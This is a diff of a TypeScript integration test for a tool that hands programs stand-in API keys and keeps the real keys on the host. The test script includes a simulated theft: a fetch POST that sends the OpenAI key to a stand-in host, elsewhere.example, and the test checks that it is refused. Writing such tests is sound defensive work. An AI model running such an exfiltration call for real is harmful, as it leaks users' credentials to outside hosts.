@@ -36,18 +36,45 @@ let report: { env: Record<string, string>; curlStatus: string; curlBody: string;
 beforeAll(async () => {
   upstream = await startUpstream(upstreamHome, HOSTS, (req, body, res) => {
     const host = String(req.headers.host).split(':')[0];
-    if (host === 'api.anthropic.com') return sse(res, anthropicStream('claude-sonnet-4-20250514', 'anthropic ok', [], { input: 10, output: 2 }));
-    if (host === 'api.openai.com') return json(res, 200, { id: 'chatcmpl-1', object: 'chat.completion', created: 1, model: 'gpt-4o-mini', choices: [{ index: 0, message: { role: 'assistant', content: 'openai ok' }, finish_reason: 'stop' }], usage: { prompt_tokens: 5, completion_tokens: 2, total_tokens: 7 } });
-    if (host === 'generativelanguage.googleapis.com') return json(res, 200, { candidates: [{ content: { role: 'model', parts: [{ text: 'gemini ok' }] }, finishReason: 'STOP', index: 0 }], usageMetadata: { promptTokenCount: 4, candidatesTokenCount: 2, totalTokenCount: 6 }, modelVersion: 'gemini-2.0-flash' });
+    if (host === 'api.anthropic.com')
+      return sse(res, anthropicStream('claude-sonnet-4-20250514', 'anthropic ok', [], { input: 10, output: 2 }));
+    if (host === 'api.openai.com')
+      return json(res, 200, {
+        id: 'chatcmpl-1',
+        object: 'chat.completion',
+        created: 1,
+        model: 'gpt-4o-mini',
+        choices: [{ index: 0, message: { role: 'assistant', content: 'openai ok' }, finish_reason: 'stop' }],
+        usage: { prompt_tokens: 5, completion_tokens: 2, total_tokens: 7 },
+      });
+    if (host === 'generativelanguage.googleapis.com')
+      return json(res, 200, {
+        candidates: [{ content: { role: 'model', parts: [{ text: 'gemini ok' }] }, finishReason: 'STOP', index: 0 }],
+        usageMetadata: { promptTokenCount: 4, candidatesTokenCount: 2, totalTokenCount: 6 },
+        modelVersion: 'gemini-2.0-flash',
+      });
     return json(res, 200, { ok: true, host, body });
   });
   const caFile = `${upstreamHome.root}/upstream-ca.pem`;
   writeFileSync(caFile, upstream.caPem);
-  const defaults = JSON.parse(readFileSync(new URL('../../resources/policy.default.json', import.meta.url), 'utf8')) as Record<string, unknown>;
-  writeFileSync(`${home.root}/policy.json`, JSON.stringify({ ...defaults, credentials: { providers: [{ id: 'acme', env: 'ACME_API_KEY', header: 'x-acme-key', hosts: ['api.acme.test'], standInPrefix: 'acme-' }] } }));
+  const defaults = JSON.parse(readFileSync(new URL('../../resources/policy.default.json', import.meta.url), 'utf8')) as Record<
+    string,
+    unknown
+  >;
+  writeFileSync(
+    `${home.root}/policy.json`,
+    JSON.stringify({
+      ...defaults,
+      credentials: {
+        providers: [{ id: 'acme', env: 'ACME_API_KEY', header: 'x-acme-key', hosts: ['api.acme.test'], standInPrefix: 'acme-' }],
+      },
+    }),
+  );
   const sdk = (name: string): string => JSON.stringify(pathToFileURL(require.resolve(name)).href);
   const script = `${upstreamHome.root}/agent.mjs`;
-  writeFileSync(script, `
+  writeFileSync(
+    script,
+    `
     import Anthropic from ${sdk('@anthropic-ai/sdk')};
     import OpenAI from ${sdk('openai')};
     import { GoogleGenAI } from ${sdk('@google/genai')};
@@ -71,15 +98,21 @@ beforeAll(async () => {
     const lines = curlOut.trimEnd().split('\\n');
     const leak = await fetch('https://elsewhere.example/upload', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'x'.repeat(70000), stolen: process.env.OPENAI_API_KEY }) });
     console.log('REPORT ' + JSON.stringify({ env, texts, curlStatus: lines.at(-1), curlBody: lines.slice(0, -1).join('\\n'), bodyStatus: leak.status, bodyText: await leak.text() }));
-  `);
-  result = await runCapsemAsync(home.root, ['record', '--name', 'keys', '--', process.execPath, script], {
-    ANTHROPIC_API_KEY: REAL.anthropic,
-    OPENAI_API_KEY: REAL.openai,
-    GEMINI_API_KEY: REAL.gemini,
-    ACME_API_KEY: REAL.acme,
-    CAPSEM_RESOLVE: HOSTS.map((h) => `${h}:443=127.0.0.1:${upstream.port}`).join(','),
-    CAPSEM_UPSTREAM_CA_FILE: caFile,
-  }, { timeoutMs: 90_000 });
+  `,
+  );
+  result = await runCapsemAsync(
+    home.root,
+    ['record', '--name', 'keys', '--', process.execPath, script],
+    {
+      ANTHROPIC_API_KEY: REAL.anthropic,
+      OPENAI_API_KEY: REAL.openai,
+      GEMINI_API_KEY: REAL.gemini,
+      ACME_API_KEY: REAL.acme,
+      CAPSEM_RESOLVE: HOSTS.map((h) => `${h}:443=127.0.0.1:${upstream.port}`).join(','),
+      CAPSEM_UPSTREAM_CA_FILE: caFile,
+    },
+    { timeoutMs: 90_000 },
+  );
   const line = result.stdout.split('\n').find((l) => l.startsWith('REPORT '));
   report = line ? JSON.parse(line.slice(7)) : { env: {}, texts: [], curlStatus: '', curlBody: '', bodyStatus: 0, bodyText: '' };
 }, 120_000);
@@ -96,11 +129,13 @@ const sessionDb = (): Database.Database => {
 };
 
 function filesUnder(dir: string): string[] {
-  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? filesUnder(join(dir, e.name)) : e.isFile() ? [join(dir, e.name)] : []));
+  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
+    e.isDirectory() ? filesUnder(join(dir, e.name)) : e.isFile() ? [join(dir, e.name)] : [],
+  );
 }
 
 describe('capsem record keeps provider keys on the host', () => {
-  it('gives the program stand-ins of each key\'s shape, never a real key', () => {
+  it("gives the program stand-ins of each key's shape, never a real key", () => {
     expect(result.stdout, result.stderr).toContain('REPORT ');
     expect(report.env.ANTHROPIC_API_KEY).toMatch(/^sk-ant-api03-[A-Za-z0-9_-]{93}AA$/);
     expect(report.env.OPENAI_API_KEY).toMatch(/^sk-proj-[A-Za-z0-9_-]{156}$/);
@@ -111,11 +146,13 @@ describe('capsem record keeps provider keys on the host', () => {
     expect(result.code).toBe(0);
   });
 
-  it('puts the real key on requests to each provider\'s own hosts, in its header or query parameter', () => {
+  it("puts the real key on requests to each provider's own hosts, in its header or query parameter", () => {
     expect(report.texts).toEqual(['anthropic ok', 'openai ok', 'gemini ok', 'gemini ok', 'api.acme.test']);
     const at = (host: string) => upstream.requests.filter((r) => String(r.headers.host).startsWith(host));
     // This SDK sends the key as x-api-key or as a Bearer token, by version: either gets the real key.
-    expect(at('api.anthropic.com').map((r) => r.headers['x-api-key'] ?? String(r.headers.authorization).replace(/^Bearer /, ''))).toEqual([REAL.anthropic]);
+    expect(at('api.anthropic.com').map((r) => r.headers['x-api-key'] ?? String(r.headers.authorization).replace(/^Bearer /, ''))).toEqual([
+      REAL.anthropic,
+    ]);
     expect(at('api.openai.com').map((r) => r.headers.authorization)).toEqual([`Bearer ${REAL.openai}`]);
     const gemini = at('generativelanguage.googleapis.com');
     expect(gemini[0]!.headers['x-goog-api-key']).toBe(REAL.gemini);
@@ -125,7 +162,9 @@ describe('capsem record keeps provider keys on the host', () => {
 
   it('refuses the stand-in going to another host, in a header (curl) or a body (Node), and nothing reaches that host', () => {
     expect(report.curlStatus).toBe('403');
-    expect(report.curlBody).toMatch(/stand-in for the anthropic key \(in header:x-api-key\) to elsewhere\.example, which is not one of anthropic's API hosts/);
+    expect(report.curlBody).toMatch(
+      /stand-in for the anthropic key \(in header:x-api-key\) to elsewhere\.example, which is not one of anthropic's API hosts/,
+    );
     expect(report.bodyStatus).toBe(403);
     expect(report.bodyText).toMatch(/stand-in for the openai key \(in body\) to elsewhere\.example/);
     expect(upstream.requests.filter((r) => String(r.headers.host).startsWith('elsewhere.example'))).toEqual([]);
@@ -133,32 +172,76 @@ describe('capsem record keeps provider keys on the host', () => {
 
   it('records which credential each request used (credential_ref), what was substituted, and what was refused', () => {
     const db = sessionDb();
-    const net = db.prepare('SELECT domain, decision, status_code, matched_rule, credential_ref FROM net_events ORDER BY seq').all() as { domain: string; decision: string; status_code: number; matched_rule: string; credential_ref: string | null }[];
+    const net = db.prepare('SELECT domain, decision, status_code, matched_rule, credential_ref FROM net_events ORDER BY seq').all() as {
+      domain: string;
+      decision: string;
+      status_code: number;
+      matched_rule: string;
+      credential_ref: string | null;
+    }[];
     expect(net.map((r) => [r.domain, r.decision, r.status_code])).toEqual([
-      ['api.anthropic.com', 'allowed', 200], ['api.openai.com', 'allowed', 200], ['generativelanguage.googleapis.com', 'allowed', 200],
-      ['generativelanguage.googleapis.com', 'allowed', 200], ['api.acme.test', 'allowed', 200], ['elsewhere.example', 'denied', 403], ['elsewhere.example', 'denied', 403],
+      ['api.anthropic.com', 'allowed', 200],
+      ['api.openai.com', 'allowed', 200],
+      ['generativelanguage.googleapis.com', 'allowed', 200],
+      ['generativelanguage.googleapis.com', 'allowed', 200],
+      ['api.acme.test', 'allowed', 200],
+      ['elsewhere.example', 'denied', 403],
+      ['elsewhere.example', 'denied', 403],
     ]);
     for (const row of net) expect(row.credential_ref).toMatch(/^credential:hmac-sha256:[0-9a-f]{64}$/);
     expect(new Set(net.map((r) => r.credential_ref)).size).toBe(4);
     expect(net[5]!.credential_ref).toBe(net[0]!.credential_ref);
     expect(net[6]!.credential_ref).toBe(net[1]!.credential_ref);
     expect(net.slice(5).map((r) => r.matched_rule)).toEqual(['credentials.stand-in-elsewhere', 'credentials.stand-in-elsewhere']);
-    const calls = db.prepare('SELECT provider, credential_ref FROM model_calls ORDER BY id').all() as { provider: string; credential_ref: string }[];
+    const calls = db.prepare('SELECT provider, credential_ref FROM model_calls ORDER BY id').all() as {
+      provider: string;
+      credential_ref: string;
+    }[];
     expect(calls.map((c) => c.provider)).toEqual(['anthropic', 'openai', 'google', 'google']);
     expect(calls.map((c) => c.credential_ref)).toEqual(net.slice(0, 4).map((r) => r.credential_ref));
     const subs = db.prepare('SELECT provider, location, host, outcome, process_name FROM substitution_events ORDER BY id').all();
     expect(subs).toEqual([
-      { provider: 'anthropic', location: expect.stringMatching(/^header:(x-api-key|authorization)$/), host: 'api.anthropic.com', outcome: 'substituted', process_name: 'node' },
+      {
+        provider: 'anthropic',
+        location: expect.stringMatching(/^header:(x-api-key|authorization)$/),
+        host: 'api.anthropic.com',
+        outcome: 'substituted',
+        process_name: 'node',
+      },
       { provider: 'openai', location: 'header:authorization', host: 'api.openai.com', outcome: 'substituted', process_name: 'node' },
-      { provider: 'gemini', location: 'header:x-goog-api-key', host: 'generativelanguage.googleapis.com', outcome: 'substituted', process_name: 'node' },
-      { provider: 'gemini', location: 'query:key', host: 'generativelanguage.googleapis.com', outcome: 'substituted', process_name: 'node' },
+      {
+        provider: 'gemini',
+        location: 'header:x-goog-api-key',
+        host: 'generativelanguage.googleapis.com',
+        outcome: 'substituted',
+        process_name: 'node',
+      },
+      {
+        provider: 'gemini',
+        location: 'query:key',
+        host: 'generativelanguage.googleapis.com',
+        outcome: 'substituted',
+        process_name: 'node',
+      },
       { provider: 'acme', location: 'header:x-acme-key', host: 'api.acme.test', outcome: 'substituted', process_name: 'node' },
       { provider: 'anthropic', location: 'header:x-api-key', host: 'elsewhere.example', outcome: 'refused', process_name: 'node' },
       { provider: 'openai', location: 'body', host: 'elsewhere.example', outcome: 'refused', process_name: 'node' },
     ]);
-    const rules = db.prepare("SELECT event_type, rule_id, rule_action, event_json FROM security_rule_events WHERE event_type = 'credential.stand_in_elsewhere' ORDER BY id").all() as { rule_action: string; event_json: string }[];
-    expect(rules.map((r) => [r.rule_action, JSON.parse(r.event_json).provider, JSON.parse(r.event_json).host, JSON.parse(r.event_json).process_name])).toEqual([
-      ['deny', 'anthropic', 'elsewhere.example', 'node'], ['deny', 'openai', 'elsewhere.example', 'node'],
+    const rules = db
+      .prepare(
+        "SELECT event_type, rule_id, rule_action, event_json FROM security_rule_events WHERE event_type = 'credential.stand_in_elsewhere' ORDER BY id",
+      )
+      .all() as { rule_action: string; event_json: string }[];
+    expect(
+      rules.map((r) => [
+        r.rule_action,
+        JSON.parse(r.event_json).provider,
+        JSON.parse(r.event_json).host,
+        JSON.parse(r.event_json).process_name,
+      ]),
+    ).toEqual([
+      ['deny', 'anthropic', 'elsewhere.example', 'node'],
+      ['deny', 'openai', 'elsewhere.example', 'node'],
     ]);
     db.close();
   });
@@ -175,15 +258,21 @@ describe('capsem record keeps provider keys on the host', () => {
     expect(files.every((f) => statSync(f).size >= 0)).toBe(true);
     const leaks = files.flatMap((file) => {
       const bytes = readFileSync(file);
-      return Object.entries(REAL).filter(([, real]) => bytes.includes(real)).map(([provider]) => `${provider} in ${file}`);
+      return Object.entries(REAL)
+        .filter(([, real]) => bytes.includes(real))
+        .map(([provider]) => `${provider} in ${file}`);
     });
     expect(leaks).toEqual([]);
     expect(USER_FOLDER).not.toContain(home.root);
   });
 
-  it('leaves no byte of a real key in the session events API\'s answers, raw bytes included', async () => {
+  it("leaves no byte of a real key in the session events API's answers, raw bytes included", async () => {
     const bin = new URL('../../bin/capsem.mjs', import.meta.url).pathname;
-    const api = spawn(process.execPath, [bin, 'api', '--port', '0'], { cwd: USER_FOLDER, env: { ...process.env, CAPSEM_HOME: home.root }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const api = spawn(process.execPath, [bin, 'api', '--port', '0'], {
+      cwd: USER_FOLDER,
+      env: { ...process.env, CAPSEM_HOME: home.root },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     try {
       const url = await new Promise<string>((resolve, reject) => {
         let out = '';
@@ -212,9 +301,20 @@ describe('capsem record keeps provider keys on the host', () => {
   });
 
   it('capsem doctor says which providers have a key and where it comes from, never the key', () => {
-    const doctor = runCapsem(home.root, ['doctor', '--json'], { ANTHROPIC_API_KEY: REAL.anthropic, ACME_API_KEY: REAL.acme, OPENAI_API_KEY: '', GEMINI_API_KEY: '', GOOGLE_API_KEY: '' });
+    const doctor = runCapsem(home.root, ['doctor', '--json'], {
+      ANTHROPIC_API_KEY: REAL.anthropic,
+      ACME_API_KEY: REAL.acme,
+      OPENAI_API_KEY: '',
+      GEMINI_API_KEY: '',
+      GOOGLE_API_KEY: '',
+    });
     const keys = (JSON.parse(doctor.stdout) as { check: string; level: string; detail: string }[]).filter((f) => f.check.endsWith(' key'));
-    expect(keys.map((f) => [f.check, f.level])).toEqual([['anthropic key', 'ok'], ['openai key', 'warn'], ['gemini key', 'warn'], ['acme key', 'ok']]);
+    expect(keys.map((f) => [f.check, f.level])).toEqual([
+      ['anthropic key', 'ok'],
+      ['openai key', 'warn'],
+      ['gemini key', 'warn'],
+      ['acme key', 'ok'],
+    ]);
     expect(keys[0]!.detail).toMatch(/^from ANTHROPIC_API_KEY in this environment/);
     for (const real of Object.values(REAL)) expect(doctor.stdout + doctor.stderr).not.toContain(real);
   });
